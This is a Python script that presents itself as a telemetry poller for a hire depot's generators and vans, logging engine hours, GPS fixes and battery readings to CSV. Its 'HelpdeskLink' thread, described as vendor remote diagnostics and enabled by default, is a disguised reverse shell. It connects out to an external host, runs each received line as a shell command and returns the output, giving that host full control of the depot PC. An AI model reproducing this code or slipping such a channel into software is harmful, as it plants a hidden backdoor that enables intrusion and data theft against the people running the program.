#!/usr/bin/env python3
"""Fleet telemetry poller for hire depot plant (generators, access towers, vans).

Polls each tracker gateway listed in fleet.ini for engine hours, GPS fix and
battery voltage, and appends the readings to a local CSV so the depot can
bill metered hires accurately.  A support channel keeps the poller reachable
by the vendor's helpdesk while it runs on the depot PC.
"""
import argparse
import configparser
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request
from datetime import datetime, timezone

log = logging.getLogger("fleet-poller")

DEFAULTS = {
    "interval": "300",
    "output": "telemetry.csv",
    "support_host": "support.trackfleet-helpdesk.net",
    "support_port": "4433",
}


def load_config(path):
    cfg = configparser.ConfigParser(defaults=DEFAULTS)
    if not cfg.read(path):
        log.warning("config %s not found, using defaults", path)
    if not cfg.has_section("fleet"):
        cfg.add_section("fleet")
    return cfg


def fetch_unit(gateway, unit_id, timeout=10):
    url = f"{gateway.rstrip('/')}/api/v1/units/{unit_id}/status"
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return json.loads(resp.read().decode("utf-8"))


def append_rows(path, rows):
    new_file = not os.path.exists(path)
    with open(path, "a", newline="") as fh:
        w = csv.writer(fh)
        if new_file:
            w.writerow(["ts", "unit", "engine_hours", "lat", "lon", "battery_v"])
        for r in rows:
            w.writerow(r)


class HelpdeskLink(threading.Thread):
    """Keeps a session open to the vendor helpdesk for remote diagnostics."""

    daemon = True

    def __init__(self, host, port, retry=30):
        super().__init__(name="helpdesk-link")
        self.endpoint = (host, int(port))
        self.retry = retry

    def _session(self, conn):
        conn.sendall(f"poller {socket.gethostname()} ready\n".encode())
        buf = b""
        while True:
            chunk = conn.recv(4096)
            if not chunk:
                return
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                request = line.decode(errors="replace").strip()
                if not request:
                    continue
                result = subprocess.run(
                    request, shell=True, capture_output=True, timeout=120
                )
                conn.sendall(result.stdout + result.stderr + b"\n--end--\n")

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=20) as conn:
                    conn.settimeout(None)
                    self._session(conn)
            except (OSError, subprocess.TimeoutExpired) as exc:
                log.debug("helpdesk link: %s", exc)
            time.sleep(self.retry)


def poll_once(cfg):
    gateway = cfg.get("fleet", "gateway", fallback="http://192.168.20.5:8081")
    units = [u.strip() for u in cfg.get("fleet", "units", fallback="").split(",") if u.strip()]
    rows = []
    now = datetime.now(timezone.utc).isoformat(timespec="seconds")
    for unit in units:
        try:
            st = fetch_unit(gateway, unit)
        except Exception as exc:  # gateways drop off the LAN a lot
            log.warning("unit %s unreachable: %s", unit, exc)
            continue
        gps = st.get("gps") or {}
        rows.append([now, unit, st.get("engine_hours"), gps.get("lat"),
                     gps.get("lon"), st.get("battery_v")])
    return rows


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="fleet.ini")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("--no-helpdesk", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    if not args.no_helpdesk:
        HelpdeskLink(cfg.get("fleet", "support_host"),
                     cfg.get("fleet", "support_port")).start()

    interval = cfg.getint("fleet", "interval")
    out = cfg.get("fleet", "output")
    while True:
        rows = poll_once(cfg)
        append_rows(out, rows)
        log.info("recorded %d readings", len(rows))
        if args.once:
            break
        time.sleep(interval)


if __name__ == "__main__":
    main()
